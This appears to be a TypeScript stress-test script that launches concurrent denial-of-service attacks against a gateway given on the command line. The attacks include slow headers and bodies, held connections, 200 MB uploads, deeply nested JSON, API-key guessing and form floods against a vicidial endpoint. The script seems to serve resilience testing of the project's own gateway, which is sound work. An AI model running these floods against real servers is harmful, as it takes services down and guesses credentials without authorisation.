import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { Pool } from 'undici'
import type { Attack, Strengths } from './attacks.ts'

/**
 * A process that attacks a gateway in several ways at once, each at a given strength, until it is killed. It prints a line
 * when all attacks run.
 */
const MEGABYTE = 1_000_000
const BYTES_PER_SECOND = 125 * MEGABYTE
const [strengthsText = '{}', origin = '', key = ''] = process.argv.slice(2)
const strengths = Object.entries(JSON.parse(strengthsText) as Partial<Strengths>)
const { hostname, port } = new URL(origin)
const WEBHOOK = 'POST /v1/webhooks/signed HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n'
/** Of the right form, and wrong. */
const SIGNATURE = '0'.repeat(64)

let unannounced = strengths.length

/** Says that the attacks are in full swing, once each of them is. */
function announce(): void {
  if (--unannounced === 0) process.stdout.write('attacking\n')
}

/** Holds so many connections, and opens another for each that is closed, after a while. What is sent first is given. */
function hold(
  strength: number,
  begin: string,
  onOpen: (socket: Socket) => void = (socket) => socket.resume(),
  againMs = 100
): void {
  let opened = 0
  const open = () => {
    const socket = connect(Number(port), hostname)
    socket.on('connect', () => {
      if (begin !== '') socket.write(begin)
      onOpen(socket)
      if (++opened === strength) announce()
    })
    socket.on('error', () => undefined)
    socket.on('close', () => setTimeout(open, againMs))
  }
  for (let n = 0; n < strength; n++) setTimeout(open, n / 5)
}

/** Sends one more byte a second on every connection. */
function drip(strength: number, begin: string, byte: string): void {
  hold(strength, begin, (socket) => {
    socket.resume()
    const timer = setInterval(() => socket.write(byte), 1_000)
    socket.on('close', () => {
      clearInterval(timer)
    })
  })
}

/** Asks for the largest page again and again, and takes nothing of it. */
function readNothing(strength: number): void {
  const ask = 'GET /docs/static/swagger-ui-bundle.js HTTP/1.1\r\nHost: gateway\r\n\r\n'
  hold(strength, ask.repeat(10), (socket) => socket.pause())
}

/** Sends all but the end of a body of 8 MB on every connection: no more than 1 Gbit/s can carry. */
function holdBodies(strength: number): void {
  const body = Buffer.alloc(8 * MEGABYTE, ' ')
  const head = `${WEBHOOK}X-Signature: ${SIGNATURE}\r\nContent-Length: ${body.length + 1}\r\n\r\n`
  const onOpen = (socket: Socket) => {
    socket.resume()
    socket.write(body)
  }
  hold(strength, head, onOpen, (body.length * strength * 1_000) / BYTES_PER_SECOND)
}

/** Sends 200 MB after the other on so many connections, declared or in chunks, as far as it is let: all that 1 Gbit/s can carry. */
function sendLargeBodies(strength: number): void {
  const everyMs = (MEGABYTE * strength * 1_000) / BYTES_PER_SECOND
  const chunk = Buffer.concat([
    Buffer.from(`${MEGABYTE.toString(16)}\r\n`),
    Buffer.alloc(MEGABYTE, ' '),
    Buffer.from('\r\n')
  ])
  const send = (length: string) => {
    const socket = connect(Number(port), hostname)
    socket.write(`${WEBHOOK}${length}\r\n\r\n`)
    let sent = 0
    const timer = setInterval(() => {
      if (sent >= 200 || socket.writableLength > chunk.length) return
      socket.write(chunk)
      sent++
    }, everyMs)
    socket.on('error', () => undefined)
    socket.on('close', () => {
      clearInterval(timer)
      setTimeout(send, everyMs, length)
    })
    socket.resume()
  }
  for (let n = 0; n < strength; n++)
    send(n % 2 === 0 ? `Content-Length: ${200 * MEGABYTE}` : 'Transfer-Encoding: chunked')
  announce()
}

/** A request of a flood; a function is called for each one. */
interface Request {
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string | Buffer
}

/** Sends `strength` requests a second, whatever becomes of those before. */
async function flood(strength: number, next: (n: number) => Request): Promise<void> {
  const pool = new Pool(origin, { connections: 50 })
  const began = performance.now()
  announce()
  for (let sent = 0; ;) {
    while (sent < ((performance.now() - began) / 1_000) * strength) {
      const { path, headers = {}, body } = next(sent++)
      void pool
        .request({ path, method: body === undefined ? 'GET' : 'POST', headers, body: body ?? null })
        .then((answer) => answer.body.dump())
        .catch(() => undefined)
    }
    await pause(2)
  }
}

const json = { 'content-type': 'application/json' }
const form = { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' }
const deep = '['.repeat(MEGABYTE)
const invalid = `{"a":${'1,'.repeat(5_000)}`
const large = Buffer.from(`[${'{"lead_id":1},'.repeat(570_000)}1]`)
const pairs = 'a&'.repeat(500_000)
const UNREAD = ['/nope', '/docs', '/metrics', '/problems/x', '/ops/sign-in', '/v1/webhooks/nosuch']
const INVALID = ['/nope', '/ops/sign-in', '/v1/webhooks/signed', '/vicidial/non_agent_api.php']
const ATTACKS: Readonly<Record<Attack, (strength: number) => unknown>> = {
  idle: (strength) => {
    hold(strength, '')
  },
  slow_headers: (strength) => {
    drip(strength, 'GET /v1/fields HTTP/1.1\r\nHost: gateway\r\nX-A: ', 'a')
  },
  slow_bodies: (strength) => {
    drip(strength, `${WEBHOOK}X-Signature: ${SIGNATURE}\r\nContent-Length: 10000\r\n\r\n`, ' ')
  },
  slow_readers: readNothing,
  held_bodies: holdBodies,
  large_bodies: sendLargeBodies,
  deep_json: (strength) =>
    flood(strength, () => ({
      path: '/v1/leads/batch-update',
      headers: { ...json, authorization: `Bearer ${key}` },
      body: deep
    })),
  key_guessing: (strength) =>
    flood(strength, () => ({
      path: '/v1/fields',
      headers: { authorization: `Bearer guess-${Math.random()}` }
    })),
  long_signatures: (strength) =>
    flood(strength, () => ({
      path: '/v1/webhooks/signed',
      headers: { ...json, 'x-signature': ','.repeat(15_000) },
      body: '{}'
    })),
  unread_bodies: (strength) =>
    flood(strength, (n) => ({ path: UNREAD[n % UNREAD.length] ?? '', headers: json, body: large })),
  invalid_json: (strength) =>
    flood(strength, (n) => ({
      path: INVALID[n % INVALID.length] ?? '',
      headers: { ...json, 'x-signature': SIGNATURE, 'sec-fetch-site': 'same-origin' },
      body: invalid
    })),
  form_pairs: (strength) =>
    flood(strength, () => ({ path: '/vicidial/non_agent_api.php', headers: form, body: pairs }))
}
// Connections from which nothing is read keep no process alive.
setInterval(() => undefined, 1_000)
for (const [attack, strength] of strengths) ATTACKS[attack as Attack](strength)
